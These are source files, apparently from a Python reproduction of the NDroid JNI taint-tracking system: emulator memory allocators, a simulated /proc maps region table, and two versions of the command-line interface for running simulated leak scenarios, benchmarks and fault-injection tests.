from typing import Dict, List, Optional, Tuple

from repro.common.errors import MemoryError_

_ALIGN = 8


def _align_up(value: int, alignment: int = _ALIGN) -> int:
    return (value + alignment - 1) & ~(alignment - 1)


class BumpAllocator:
    """Monotonic allocator over ``[base, base + size)``."""

    def __init__(self, base: int, size: int) -> None:
        self.base = base
        self.size = size
        self._next = base

    def alloc(self, length: int, alignment: int = _ALIGN) -> int:
        address = _align_up(self._next, alignment)
        if address + length > self.base + self.size:
            raise MemoryError_(address, "bump allocator exhausted")
        self._next = address + length
        return address

    @property
    def used(self) -> int:
        return self._next - self.base


@dataclass
class _FreeBlock:
    start: int
    size: int

    @property
    def end(self) -> int:
        return self.start + self.size


class FreeListAllocator:
    """First-fit free-list allocator with coalescing on free.

    Tracks live allocations so double frees and frees of wild pointers are
    detected — the same class of bug NDroid's memory hooks would observe in
    a real native library.
    """

    def __init__(self, base: int, size: int) -> None:
        self.base = base
        self.size = size
        self._free: List[_FreeBlock] = [_FreeBlock(base, size)]
        self._live: Dict[int, int] = {}

    def alloc(self, length: int) -> int:
        length = _align_up(max(length, 1))
        for index, block in enumerate(self._free):
            if block.size >= length:
                address = block.start
                if block.size == length:
                    del self._free[index]
                else:
                    block.start += length
                    block.size -= length
                self._live[address] = length
                return address
        raise MemoryError_(self.base, f"native heap exhausted ({length} bytes)")

    def free(self, address: int) -> int:
        if address == 0:
            return 0  # free(NULL) is a no-op, as in C.
        length = self._live.pop(address, None)
        if length is None:
            raise MemoryError_(address, "free of unallocated pointer")
        self._insert_free(_FreeBlock(address, length))
        return length

    def size_of(self, address: int) -> Optional[int]:
        return self._live.get(address)

    def realloc(self, address: int, new_length: int) -> Tuple[int, int]:
        """Return (new_address, bytes_to_copy).  Caller moves the data."""
        if address == 0:
            return self.alloc(new_length), 0
        old_length = self._live.get(address)
        if old_length is None:
            raise MemoryError_(address, "realloc of unallocated pointer")
        new_address = self.alloc(new_length)
        self.free(address)
        return new_address, min(old_length, new_length)

    def _insert_free(self, block: _FreeBlock) -> None:
        self._free.append(block)
        self._free.sort(key=lambda b: b.start)
        merged: List[_FreeBlock] = []
        for candidate in self._free:
            if merged and merged[-1].end == candidate.start:
                merged[-1].size += candidate.size
            else:
                merged.append(candidate)
        self._free = merged

    @property
    def live_bytes(self) -> int:
        return sum(self._live.values())

    @property
    def live_allocations(self) -> int:
        return len(self._live)

    @property
    def free_bytes(self) -> int:
        return sum(block.size for block in self._free)
