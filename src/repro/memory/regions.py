"""Memory-map regions: the simulated ``/proc/<pid>/maps``.

NDroid's OS-level view reconstructor needs module base addresses ("NDroid
obtains the start addresses of the system libraries from the memory map
through the OS-level view reconstructor", Section V.G).  Each mapped module
or anonymous area is a :class:`Region`; a process owns a :class:`MemoryMap`
of them.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable, Iterator, List, Optional

from repro.common.errors import MemoryError_


@dataclass
class Region:
    """One contiguous mapping.

    Attributes:
        start: first address of the region.
        size: length in bytes.
        name: backing name, e.g. ``"libdvm.so"``, ``"[stack]"``,
            ``"libfoo.so"`` for a third-party native library.
        perms: rwx string, e.g. ``"r-x"``.
        third_party: True for app-supplied native libraries; NDroid's
            instruction tracer instruments only these regions.
    """

    start: int
    size: int
    name: str
    perms: str = "rwx"
    third_party: bool = False

    @property
    def end(self) -> int:
        return self.start + self.size

    def contains(self, address: int) -> bool:
        return self.start <= address < self.end

    def overlaps(self, other: "Region") -> bool:
        return self.start < other.end and other.start < self.end

    def format(self) -> str:
        flags = self.perms.ljust(3, "-")
        tag = " (3p)" if self.third_party else ""
        return f"{self.start:08x}-{self.end:08x} {flags} {self.name}{tag}"


class MemoryMap:
    """An ordered set of non-overlapping regions with lookup helpers."""

    def __init__(self) -> None:
        self._regions: List[Region] = []
        # Region-table change listeners.  The instruction tracer caches
        # per-page third-party decisions (and bakes them into translated
        # blocks), so a library mapped after tracing starts must be able
        # to invalidate those caches.
        self._listeners: List[Callable[[], None]] = []

    def subscribe(self, listener: Callable[[], None]) -> None:
        """Call ``listener`` after every successful map/unmap."""
        self._listeners.append(listener)

    def _notify(self) -> None:
        for listener in self._listeners:
            listener()

    def map_region(self, region: Region) -> Region:
        for existing in self._regions:
            if existing.overlaps(region):
                raise MemoryError_(
                    region.start,
                    f"mapping {region.name!r} overlaps {existing.name!r}",
                )
        self._regions.append(region)
        self._regions.sort(key=lambda r: r.start)
        self._notify()
        return region

    def map(self, start: int, size: int, name: str, perms: str = "rwx",
            third_party: bool = False) -> Region:
        return self.map_region(
            Region(start=start, size=size, name=name, perms=perms,
                   third_party=third_party))

    def unmap(self, start: int) -> None:
        for index, region in enumerate(self._regions):
            if region.start == start:
                del self._regions[index]
                self._notify()
                return
        raise MemoryError_(start, "unmap of unknown region")

    def find(self, address: int) -> Optional[Region]:
        for region in self._regions:
            if region.contains(address):
                return region
        return None

    def find_by_name(self, name: str) -> Optional[Region]:
        for region in self._regions:
            if region.name == name:
                return region
        return None

    def base_of(self, name: str) -> int:
        region = self.find_by_name(name)
        if region is None:
            raise MemoryError_(0, f"no region named {name!r}")
        return region.start

    def is_third_party(self, address: int) -> bool:
        region = self.find(address)
        return region is not None and region.third_party

    def __iter__(self) -> Iterator[Region]:
        return iter(self._regions)

    def __len__(self) -> int:
        return len(self._regions)

    def format(self) -> str:
        """Render like ``cat /proc/<pid>/maps``."""
        return "\n".join(region.format() for region in self._regions)
