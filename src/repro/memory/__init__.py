"""Byte-addressable memory, memory-map regions, and the native heap.

This is the emulated machine's physical/virtual memory substrate.  It is
deliberately simple — a sparse page store — but exposes the two surfaces
the paper's mechanisms need:

* word/byte loads and stores used by the ARM/Thumb executor, and
* a region table (like ``/proc/<pid>/maps``) that the OS-level view
  reconstructor introspects to find module base addresses.
"""

from repro.memory.allocator import BumpAllocator, FreeListAllocator
from repro.memory.memory import Memory
from repro.memory.regions import MemoryMap, Region

__all__ = [
    "Memory",
    "Region",
    "MemoryMap",
    "BumpAllocator",
    "FreeListAllocator",
]
