"""Command-line interface: ``python -m repro <command>``.

Commands:

* ``list`` — enumerate the built-in leak scenarios;
* ``scenario <name>`` — run one scenario under a configuration and print
  the leak report (and optionally the flow log);
* ``matrix`` — run every scenario under TaintDroid-only and
  TaintDroid+NDroid and print the Table I detection matrix;
* ``corpus`` — run the Section III study;
* ``bench`` — run the Fig. 10 CF-Bench overhead comparison;
* ``supervise`` — run the Section VI market study under the resilience
  supervisor, optionally with injected faults (``--faults``);
* ``farm`` — run a corpus manifest on the sharded multiprocess analysis
  farm (digest-cached results, merged farm-level report);
* ``run`` — execute one scenario, writing an artifact directory
  (metrics, leaks, and — with ``--trace`` — the provenance ledger, a
  Graphviz flow graph and a folded profile);
* ``report`` — render a ``run`` artifact directory into the paper's
  overhead/provenance tables.
"""

from __future__ import annotations

import argparse
import sys
from typing import List, Optional


def _build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        prog="repro",
        description="NDroid reproduction (DSN 2014): track information "
                    "flows through JNI on a simulated Android device.")
    subparsers = parser.add_subparsers(dest="command", required=True)

    subparsers.add_parser("list", help="list the built-in scenarios")

    scenario = subparsers.add_parser("scenario", help="run one scenario")
    scenario.add_argument("name", help="scenario name (see `repro list`)")
    scenario.add_argument("--config", default="ndroid",
                          choices=["vanilla", "taintdroid", "ndroid",
                                   "droidscope"],
                          help="analysis configuration (default: ndroid)")
    scenario.add_argument("--log", action="store_true",
                          help="print the full information-flow event log")

    subparsers.add_parser("matrix",
                          help="run the Table I detection matrix")

    corpus = subparsers.add_parser("corpus",
                                   help="run the Section III app study")
    corpus.add_argument("--scale", type=float, default=0.1,
                        help="corpus scale factor (1.0 = 227,911 apps; "
                             "default 0.1)")
    corpus.add_argument("--seed", type=int, default=2014)

    bench = subparsers.add_parser("bench",
                                  help="run the Fig. 10 overhead "
                                       "comparison")
    bench.add_argument("--iterations", type=int, default=200)
    bench.add_argument("--repeats", type=int, default=2)
    bench.add_argument("--emulator", action="store_true",
                       help="run the emulator engine benchmark "
                            "(TB vs single-step + taint parity) instead")
    bench.add_argument("--farm", action="store_true",
                       help="run the analysis-farm scaling benchmark "
                            "(serial vs -j N vs resumed) instead")
    bench.add_argument("--workers", type=int, default=4,
                       help="parallel worker count for --farm (default 4)")
    bench.add_argument("--scaling", action="store_true",
                       help="with --farm: also run the paper-scale "
                            "streamed-corpus scaling curve "
                            "(1/2/4/8 workers over the streaming farm)")
    bench.add_argument("--scaling-jobs", type=int, default=10_000,
                       help="corpus chunk jobs in the scaling curve "
                            "(default 10000 = 100k records)")
    bench.add_argument("--json", metavar="PATH", default=None,
                       help="write emulator benchmark results to PATH")
    bench.add_argument("--baseline", metavar="PATH", default=None,
                       help="fail if speedups regress >tolerance vs this "
                            "baseline JSON")
    bench.add_argument("--tolerance", type=float, default=0.30,
                       help="allowed speedup regression vs baseline "
                            "(default 0.30)")

    shard = subparsers.add_parser(
        "shard", help="write a sharded streamed-corpus manifest directory")
    shard.add_argument("directory",
                       help="output directory (gets shard-*.jsonl + "
                            "index.json); pass it to `repro farm`")
    shard.add_argument("--scale", type=float, default=0.1,
                       help="corpus scale factor (1.0 = 227,911 apps; "
                            "default 0.1)")
    shard.add_argument("--seed", type=int, default=2014)
    shard.add_argument("--chunk", type=int, default=16,
                       help="corpus records per job (default 16)")
    shard.add_argument("--shard-size", type=int, default=1024,
                       help="jobs per shard file (default 1024)")

    supervise = subparsers.add_parser(
        "supervise",
        help="run the market study under the resilience supervisor")
    supervise.add_argument("--seed", type=int, default=0,
                           help="Monkey event seed (default 0)")
    supervise.add_argument("--events", type=int, default=12,
                           help="Monkey events per app (default 12)")
    supervise.add_argument("--faults", default=None,
                           help="fault plan, comma-joined atoms: decode@N, "
                                "memory@N, hook@N, hook:NAME, "
                                "eintr:SYSCALL, eagain:SYSCALL, "
                                "partial:N:SYSCALL (optional *K repeat)")
    supervise.add_argument("--fault-seed", type=int, default=None,
                           help="generate a random fault plan from this "
                                "seed instead of --faults")
    supervise.add_argument("--fault-target", default=None,
                           help="apply the fault plan only to this package "
                                "(default: every app)")
    supervise.add_argument("--budget", type=int, default=2_000_000,
                           help="instruction budget per app before the "
                                "watchdog fires (default 2,000,000)")
    supervise.add_argument("--report", action="store_true",
                           help="print full crash reports for failed apps")

    farm = subparsers.add_parser(
        "farm", help="run a corpus manifest on the sharded analysis farm")
    farm.add_argument("manifest", nargs="?", default="builtin",
                      help="manifest JSON path, or 'builtin' for the "
                           "full scenario+market corpus (default)")
    farm.add_argument("-j", "--workers", type=int, default=1,
                      help="worker processes (default 1 = serial)")
    farm.add_argument("--resume", action="store_true",
                      help="replay digest-cached results instead of "
                           "re-running unchanged jobs")
    farm.add_argument("--out", default="repro-farm", metavar="DIR",
                      help="artifact directory (default: repro-farm); "
                           "the result cache lives in DIR/cache")
    farm.add_argument("--trace", action="store_true",
                      help="enable the provenance ledger per job "
                           "(builtin manifest only)")
    farm.add_argument("--budget", type=int, default=2_000_000,
                      help="instruction budget per job before the "
                           "watchdog fires (default 2,000,000)")
    farm.add_argument("--deadline", type=float, default=0.0,
                      metavar="SECONDS",
                      help="per-job wall-clock deadline; a worker past "
                           "it is SIGKILLed and the job retried "
                           "(default 0 = no deadline)")
    farm.add_argument("--max-retries", type=int, default=2,
                      help="requeue a job whose worker died/hung up to "
                           "N times with backoff+jitter (default 2)")
    farm.add_argument("--chaos", type=int, default=None, metavar="SEED",
                      help="run the chaos harness instead of a plain "
                           "farm run: inject worker kills/SIGSTOPs, "
                           "SIGKILL the scheduler mid-run, tear a "
                           "result file, resume, and verify the "
                           "recovery invariants")
    farm.add_argument("--chaos-inject", type=int, default=None,
                      metavar="SEED", help=argparse.SUPPRESS)
    farm.add_argument("--trace-dir", default=None, metavar="DIR",
                      help="record cross-process span spools under DIR "
                           "and merge them into DIR/trace.json (Chrome "
                           "trace-event JSON, Perfetto-loadable) + "
                           "DIR/timeline.txt after the run")
    farm.add_argument("--warm", action="store_true",
                      help="warm workers: boot each analysis config once "
                           "in the scheduler, fork jobs from the booted "
                           "snapshot and pay only a per-job reset")
    farm.add_argument("--tb-cache", default=None, metavar="DIR",
                      help="persistent cross-job translation cache: "
                           "decoded translation blocks, Dalvik block "
                           "layouts and JNI trampoline plans persist "
                           "content-addressed under DIR and rehydrate "
                           "in later runs")
    farm.add_argument("--watch", action="store_true",
                      help="live farm console on stderr while the run "
                           "is in flight: per-worker busy/hung/dead, "
                           "current job + instruction count, open spans "
                           "and cache hit rates (needs --trace-dir for "
                           "the span columns)")

    run = subparsers.add_parser(
        "run", help="run one scenario and write an artifact directory")
    run.add_argument("target",
                     help="scenario name or path whose basename is one "
                          "(e.g. examples/ephone)")
    run.add_argument("--config", default="ndroid",
                     choices=["taintdroid", "ndroid", "droidscope"],
                     help="analysis configuration (default: ndroid)")
    run.add_argument("--trace", action="store_true",
                     help="enable the provenance ledger and the sampling "
                          "profiler")
    run.add_argument("--out", default="repro-trace", metavar="DIR",
                     help="artifact directory (default: repro-trace)")
    run.add_argument("--faults", default=None,
                     help="inject a fault plan into the instrumented run "
                          "(same atoms as `repro supervise --faults`)")
    run.add_argument("--profile-interval", type=int, default=16,
                     help="profiler sampling interval in instructions "
                          "(default 16; the in-process default is 128)")

    report = subparsers.add_parser(
        "report", help="render a run artifact directory")
    report.add_argument("--dir", default="repro-trace", metavar="DIR",
                        help="artifact directory (default: repro-trace)")
    return parser


def _command_list() -> int:
    from repro.apps import ALL_SCENARIOS
    print(f"{'name':<14} {'case':<7} description")
    for name, build in ALL_SCENARIOS.items():
        scenario = build()
        print(f"{name:<14} {scenario.case:<7} {scenario.description}")
    return 0


def _command_scenario(name: str, config: str, show_log: bool) -> int:
    from repro.apps import ALL_SCENARIOS
    from repro.apps.base import run_scenario
    from repro.bench.harness import make_platform
    if name not in ALL_SCENARIOS:
        print(f"unknown scenario {name!r}; try `repro list`",
              file=sys.stderr)
        return 2
    scenario = ALL_SCENARIOS[name]()
    platform = make_platform(config)
    run_scenario(scenario, platform)
    print(f"scenario:  {scenario.name} (case {scenario.case})")
    print(f"config:    {config}")
    print(f"expected:  taint 0x{scenario.expected_taint:x} -> "
          f"{scenario.expected_destination or '(no leak)'}")
    if show_log:
        print("\nflow log:")
        print(platform.event_log.dump())
    print("\ndetected leaks:")
    print(platform.leaks.summary())
    detected = (any(r.taint & scenario.expected_taint
                    for r in platform.leaks.records)
                if scenario.expected_taint else bool(platform.leaks.records))
    print(f"\ndetected: {detected}")
    return 0


def _command_matrix() -> int:
    from repro.apps import ALL_SCENARIOS
    from repro.apps.base import run_scenario
    from repro.bench.harness import make_platform
    print(f"{'scenario':<14} {'case':<6} {'TaintDroid':<12} {'+NDroid':<8}")
    for name, build in ALL_SCENARIOS.items():
        row = {}
        for config in ("taintdroid", "ndroid"):
            scenario = build()
            platform = make_platform(config)
            run_scenario(scenario, platform)
            if scenario.expected_taint:
                row[config] = any(r.taint & scenario.expected_taint
                                  for r in platform.leaks.records)
            else:
                row[config] = bool(platform.leaks.records)
        print(f"{name:<14} {scenario.case:<6} "
              f"{'detected' if row['taintdroid'] else 'missed':<12} "
              f"{'detected' if row['ndroid'] else 'missed':<8}")
    return 0


def _command_corpus(scale: float, seed: int) -> int:
    from repro.corpus import CorpusGenerator, analyze_corpus
    # Stream, never materialize: the study holds one record at a time
    # whatever the scale.
    generator = CorpusGenerator(seed=seed, scale=scale)
    report = analyze_corpus(generator.stream())
    print(report.format_summary())
    return 0


def _command_bench(iterations: int, repeats: int) -> int:
    from repro.bench import OverheadHarness
    harness = OverheadHarness(iterations=iterations, repeats=repeats)
    for table in harness.compare_all().values():
        print(table.format())
        print()
    return 0


def _command_bench_emulator(json_path, baseline_path, tolerance) -> int:
    from repro.bench.emulator_bench import (
        EmulatorBench, compare_to_baseline, load_results, write_results)
    results = EmulatorBench().run()
    for name, row in results["workloads"].items():
        print(f"{name:<22} {row['single_step_instr_per_sec']:>12,.0f} -> "
              f"{row['tb_instr_per_sec']:>12,.0f} instr/s "
              f"({row['speedup']:.2f}x)")
    parity = results["taint_parity"]
    print(f"taint parity: {'identical' if parity['identical'] else 'BROKEN'} "
          f"over {len(parity['scenarios'])} scenarios")
    if json_path:
        write_results(results, json_path)
        print(f"wrote {json_path}")
    if baseline_path:
        failures = compare_to_baseline(results, load_results(baseline_path),
                                       tolerance=tolerance)
        if failures:
            for failure in failures:
                print(f"REGRESSION: {failure}", file=sys.stderr)
            return 1
        print(f"no regression vs {baseline_path} "
              f"(tolerance {tolerance:.0%})")
    return 0 if parity["identical"] else 1


def _command_bench_farm(workers: int, json_path, scaling: bool = False,
                        scaling_jobs: int = 10_000) -> int:
    from repro.bench.farm_bench import (FarmBench, ScalingBench,
                                        write_results)
    results = FarmBench(workers=workers).run()
    rows = results["runs"]
    for name in ("serial", "parallel", "resumed"):
        row = rows[name]
        print(f"{name:<10} workers={row['workers']:<3} "
              f"wall={row['wall_seconds']:.2f}s "
              f"jobs={row['jobs']} cached={row['cached_jobs']}")
    print(f"speedup (parallel vs serial):  "
          f"{results['speedup']:.2f}x on {results['cpus']} cpu(s)")
    print(f"speedup (resumed vs serial):   {results['resume_speedup']:.2f}x")
    parity = results["parity"]
    print(f"per-app count parity: "
          f"{'identical' if parity['identical'] else 'BROKEN'} "
          f"over {len(parity['apps'])} jobs")

    warm = results["warm"]
    print(f"\nwarm drill ({warm['cold']['jobs']} jobs/mode):")
    for mode in ("cold", "warm", "rehydrated"):
        row = warm[mode]
        print(f"  {mode:<11} boot={row['boot_seconds']:.2f}s "
              f"translate={row['translate_seconds']:.2f}s "
              f"per-job={row['per_job_seconds'] * 1000:.2f}ms")
    print(f"  warm vs cold:       {warm['speedup_warm_vs_cold']:.2f}x "
          f"(gate >= {warm['gate']['threshold']:.1f}x: "
          f"{'passed' if warm['gate']['passed'] else 'FAILED'})")
    print(f"  rehydrated vs cold: "
          f"{warm['speedup_rehydrated_vs_cold']:.2f}x "
          f"(persist hits {warm['persist_hits']})")
    warm_parity = warm["parity"]
    print(f"  taint parity: "
          f"{'identical' if warm_parity['identical'] else 'BROKEN'} "
          f"over {len(warm_parity['scenarios'])} scenarios x 3 modes")
    warm_ok = warm["gate"]["passed"] and warm_parity["identical"]

    scaling_ok = True
    if scaling:
        curve = ScalingBench(jobs=scaling_jobs).run()
        results["scaling"] = curve
        print(f"\nscaling curve: {curve['jobs']} corpus jobs "
              f"({curve['records']:,} records, "
              f"scale {curve['scale']:.4f})")
        for point in curve["curve"]:
            print(f"  workers={point['workers']:<3} "
                  f"wall={point['wall_seconds']:.2f}s "
                  f"{point['jobs_per_second']:>9,.0f} jobs/s "
                  f"speedup={point['speedup_vs_serial']:.2f}x "
                  f"parity={'ok' if point['parity_with_serial'] else 'BROKEN'}")
        marginals = curve["marginals"]
        print(f"  marginals vs plan: "
              f"{'exact' if marginals['exact'] else 'DRIFTED'}")
        if curve["parallel_beats_serial"] is None:
            print(f"  {curve['skip_notice']}")
        else:
            print(f"  parallel beats serial: "
                  f"{curve['parallel_beats_serial']}")
        scaling_ok = (marginals["exact"]
                      and all(p["parity_with_serial"]
                              for p in curve["curve"])
                      and curve["parallel_beats_serial"] is not False)

    if json_path:
        write_results(results, json_path)
        print(f"wrote {json_path}")
    return 0 if parity["identical"] and warm_ok and scaling_ok else 1


def _command_supervise(args) -> int:
    from repro.apps.market import run_supervised_market_study
    from repro.resilience import FaultPlan, Supervisor

    plan = None
    if args.faults and args.fault_seed is not None:
        print("use either --faults or --fault-seed, not both",
              file=sys.stderr)
        return 2
    if args.faults:
        try:
            plan = FaultPlan.parse(args.faults)
        except (ValueError, KeyError) as error:
            print(f"bad --faults spec: {error}", file=sys.stderr)
            return 2
    elif args.fault_seed is not None:
        plan = FaultPlan.random(args.fault_seed)

    supervisor = Supervisor(budget=args.budget)
    results = run_supervised_market_study(
        seed=args.seed, events=args.events, plan=plan,
        fault_target=args.fault_target, supervisor=supervisor)

    if plan is not None:
        target = args.fault_target or "every app"
        print(f"fault plan: {plan.describe()} (target: {target})")
        print()
    print(f"{'package':<26} {'outcome':<10} {'attempts':<9} "
          f"{'degraded':<9} {'leaked':<7} destinations")
    for result in results:
        observation = result.value
        leaked = "yes" if observation and observation.leaked else "no"
        destinations = ", ".join(observation.leak_destinations) \
            if observation else "-"
        print(f"{result.label:<26} {result.status:<10} "
              f"{result.attempts:<9} {result.degraded_events:<9} "
              f"{leaked:<7} {destinations or '-'}")
    failed = [r for r in results if r.crash_report is not None]
    if failed:
        print()
        for result in failed:
            if args.report:
                print(result.crash_report.format())
                print()
            else:
                print(f"{result.label}: {result.error} "
                      f"(re-run with --report for the full crash report)")
    completed = sum(1 for r in results if r.completed)
    print(f"\n{completed}/{len(results)} apps completed "
          f"({len(results) - completed} contained)")
    return 0


def _command_shard(args) -> int:
    from repro.farm.manifest import ShardedManifest, iter_corpus_jobs
    manifest = ShardedManifest.write(
        args.directory,
        iter_corpus_jobs(scale=args.scale, seed=args.seed,
                         chunk=args.chunk),
        shard_size=args.shard_size)
    print(f"wrote {args.directory}: {len(manifest):,} jobs across "
          f"{manifest.shard_count} shard(s) "
          f"(~{args.chunk} records/job, seed {args.seed}, "
          f"scale {args.scale})")
    print(f"run it with: repro farm {args.directory} -j N")
    return 0


def _command_farm_stream(args, manifest) -> int:
    """A sharded manifest routes to the streaming farm."""
    import os
    from repro.farm import (FarmInterrupted, render_farm_report,
                            write_farm_artifacts)
    from repro.farm.scheduler import StreamFarm

    farm = StreamFarm(manifest, workers=args.workers,
                      run_dir=os.path.join(args.out, "runstate"),
                      resume=args.resume, budget=args.budget,
                      warm=args.warm, tb_cache=args.tb_cache)
    try:
        report = farm.run()
    except FarmInterrupted as drained:
        print(f"interrupted: {drained} — journaled, workers reaped; "
              f"re-run with --resume to finish", file=sys.stderr)
        return 130
    write_farm_artifacts(report, args.out)
    print(render_farm_report(report), end="")
    print(f"wrote {args.out}/{{farm.json, report.txt, merged/}}")
    return 1 if report.outcomes.get("lost", 0) else 0


def _command_farm(args) -> int:
    import os
    from repro.farm import (ChaosMonkey, FarmConsole, FarmInterrupted,
                            FarmScheduler, Manifest, ResultStore,
                            merge_results, render_farm_report,
                            write_farm_artifacts, write_trace_artifacts)
    from repro.farm.manifest import ShardedManifest
    try:
        manifest = Manifest.load(args.manifest, trace=args.trace) \
            if args.manifest == "builtin" else Manifest.load(args.manifest)
    except (OSError, ValueError, KeyError, TypeError) as error:
        print(f"bad manifest {args.manifest!r}: {error}", file=sys.stderr)
        return 2
    if not len(manifest):
        print("manifest holds no jobs", file=sys.stderr)
        return 2
    if isinstance(manifest, ShardedManifest):
        return _command_farm_stream(args, manifest)
    if args.chaos is not None:
        return _command_farm_chaos(args, manifest)
    store = ResultStore(os.path.join(args.out, "cache"))
    chaos = None
    if args.chaos_inject is not None:
        chaos = ChaosMonkey.for_manifest(manifest, args.chaos_inject)
    run_dir = os.path.join(args.out, "runstate")
    scheduler = FarmScheduler(
        manifest, workers=args.workers, store=store, resume=args.resume,
        budget=args.budget, deadline=args.deadline or None,
        max_retries=args.max_retries, chaos=chaos,
        run_dir=run_dir, trace_dir=args.trace_dir,
        warm=args.warm, tb_cache=args.tb_cache)
    console = None
    if args.watch:
        console = FarmConsole(run_dir, trace_dir=args.trace_dir)
        console.start()
    try:
        results = scheduler.run()
    except FarmInterrupted as drained:
        print(f"interrupted: {drained} — journaled, workers reaped; "
              f"re-run with --resume to finish", file=sys.stderr)
        return 130
    finally:
        if console is not None:
            console.stop()
    report = merge_results(results, workers=args.workers,
                           wall_seconds=scheduler.wall_seconds,
                           cached_jobs=scheduler.cached_jobs,
                           health=scheduler.health.summary())
    write_farm_artifacts(report, args.out)
    if args.trace_dir is not None:
        artifacts = write_trace_artifacts(args.trace_dir)
        print(f"wrote {artifacts['trace']} (Chrome trace-event JSON) "
              f"and {artifacts['timeline']}")
    print(render_farm_report(report), end="")
    print(f"wrote {args.out}/{{farm.json, report.txt, jobs/, merged/}}")
    lost = report.outcomes.get("lost", 0)
    return 1 if lost else 0


def _command_farm_chaos(args, manifest) -> int:
    from repro.farm.chaos import render_chaos_report, run_chaos_harness
    report = run_chaos_harness(
        manifest, seed=args.chaos, out_dir=args.out,
        workers=max(2, args.workers), budget=args.budget,
        deadline=args.deadline or 10.0, max_retries=max(3, args.max_retries))
    print(render_chaos_report(report), end="")
    print(f"wrote {args.out}/chaos.json")
    return 0 if report.ok else 1


def _command_run(args) -> int:
    import json
    import os
    from repro.apps import ALL_SCENARIOS
    from repro.apps.base import run_scenario
    from repro.bench.harness import make_platform
    from repro.observability.profiler import SymbolResolver
    from repro.resilience import FaultPlan

    name = os.path.basename(os.path.normpath(args.target))
    if name not in ALL_SCENARIOS:
        print(f"unknown scenario {name!r}; try `repro list`",
              file=sys.stderr)
        return 2
    plan = None
    if args.faults:
        try:
            plan = FaultPlan.parse(args.faults)
        except (ValueError, KeyError) as error:
            print(f"bad --faults spec: {error}", file=sys.stderr)
            return 2
    os.makedirs(args.out, exist_ok=True)

    def execute(config: str, trace: bool, faulted: bool):
        scenario = ALL_SCENARIOS[name]()
        platform = make_platform(config, trace=trace)
        if trace:
            platform.observability.profiler.set_interval(
                args.profile_interval)
        if faulted and plan is not None:
            active = plan.activate()
            platform.emu.fault_injector = active
            platform.kernel.syscall_fault_hook = active.syscall_fault
        run_scenario(scenario, platform)
        return platform, scenario

    def artifact(filename: str) -> str:
        return os.path.join(args.out, filename)

    # The vanilla baseline of the same scenario (Table IV denominator).
    baseline_platform, __ = execute("vanilla", False, False)
    baseline_platform.observability.metrics.write_json(
        artifact("metrics_baseline.json"))

    platform, scenario = execute(args.config, args.trace, True)
    platform.observability.metrics.write_json(artifact("metrics.json"))
    leaks = [
        {
            "detector": record.detector,
            "sink": record.sink,
            "taint": record.taint,
            "destination": record.destination,
            "payload": record.payload.hex(),
            "context": record.context,
        }
        for record in platform.leaks.records
    ]
    with open(artifact("leaks.json"), "w") as handle:
        json.dump(leaks, handle, indent=2)
        handle.write("\n")
    with open(artifact("meta.json"), "w") as handle:
        json.dump({
            "scenario": scenario.name,
            "case": scenario.case,
            "config": args.config,
            "trace": args.trace,
            "faults": args.faults,
        }, handle, indent=2)
        handle.write("\n")
    written = ["metrics_baseline.json", "metrics.json", "leaks.json",
               "meta.json"]

    if args.trace:
        observability = platform.observability
        edges = observability.ledger.to_jsonl(artifact("trace.jsonl"))
        paths = []
        for leak in leaks:
            path = observability.ledger.reconstruct(
                taint=leak["taint"], destination=leak["destination"])
            if path:
                paths.append(path)
        with open(artifact("flow.dot"), "w") as handle:
            handle.write(observability.ledger.to_dot(paths or None))
        observability.profiler.write_folded(
            artifact("profile.folded"),
            SymbolResolver.from_platform(platform))
        written += ["trace.jsonl", "flow.dot", "profile.folded"]
        print(f"traced {edges} provenance edges "
              f"({observability.ledger.dropped} dropped)")
    print(f"{scenario.name}: {len(leaks)} leak(s) reported")
    print(f"wrote {args.out}/{{{', '.join(written)}}}")
    return 0


def _command_report(directory: str) -> int:
    from repro.observability.report import RunArtifacts, render_report
    import os
    if not os.path.isdir(directory):
        print(f"no artifact directory {directory!r}; "
              f"run `repro run <scenario> --out {directory}` first",
              file=sys.stderr)
        return 2
    artifacts = RunArtifacts(directory)
    text, ok = render_report(artifacts)
    print(text, end="")
    return 0 if ok else 1


def main(argv: Optional[List[str]] = None) -> int:
    """Parse arguments and dispatch to a command; returns the exit code."""
    args = _build_parser().parse_args(argv)
    if args.command == "list":
        return _command_list()
    if args.command == "scenario":
        return _command_scenario(args.name, args.config, args.log)
    if args.command == "matrix":
        return _command_matrix()
    if args.command == "corpus":
        return _command_corpus(args.scale, args.seed)
    if args.command == "bench":
        if args.emulator:
            return _command_bench_emulator(args.json, args.baseline,
                                           args.tolerance)
        if args.farm:
            return _command_bench_farm(args.workers, args.json,
                                       scaling=args.scaling,
                                       scaling_jobs=args.scaling_jobs)
        return _command_bench(args.iterations, args.repeats)
    if args.command == "shard":
        return _command_shard(args)
    if args.command == "supervise":
        return _command_supervise(args)
    if args.command == "farm":
        return _command_farm(args)
    if args.command == "run":
        return _command_run(args)
    if args.command == "report":
        return _command_report(args.dir)
    return 2  # pragma: no cover - argparse enforces the choices


if __name__ == "__main__":  # pragma: no cover
    sys.exit(main())
