"""Command-line interface: ``python -m repro <command>``.

Commands:

* ``list`` — enumerate the built-in leak scenarios;
* ``scenario <name>`` — run one scenario under a configuration and print
  the leak report (and optionally the flow log);
* ``matrix`` — run every scenario under TaintDroid-only and
  TaintDroid+NDroid and print the Table I detection matrix;
* ``corpus`` — run the Section III study;
* ``bench`` — run the Fig. 10 CF-Bench overhead comparison.
"""

from __future__ import annotations

import argparse
import sys
from typing import List, Optional


def _build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        prog="repro",
        description="NDroid reproduction (DSN 2014): track information "
                    "flows through JNI on a simulated Android device.")
    subparsers = parser.add_subparsers(dest="command", required=True)

    subparsers.add_parser("list", help="list the built-in scenarios")

    scenario = subparsers.add_parser("scenario", help="run one scenario")
    scenario.add_argument("name", help="scenario name (see `repro list`)")
    scenario.add_argument("--config", default="ndroid",
                          choices=["vanilla", "taintdroid", "ndroid",
                                   "droidscope"],
                          help="analysis configuration (default: ndroid)")
    scenario.add_argument("--log", action="store_true",
                          help="print the full information-flow event log")

    subparsers.add_parser("matrix",
                          help="run the Table I detection matrix")

    corpus = subparsers.add_parser("corpus",
                                   help="run the Section III app study")
    corpus.add_argument("--scale", type=float, default=0.1,
                        help="corpus scale factor (1.0 = 227,911 apps; "
                             "default 0.1)")
    corpus.add_argument("--seed", type=int, default=2014)

    bench = subparsers.add_parser("bench",
                                  help="run the Fig. 10 overhead "
                                       "comparison")
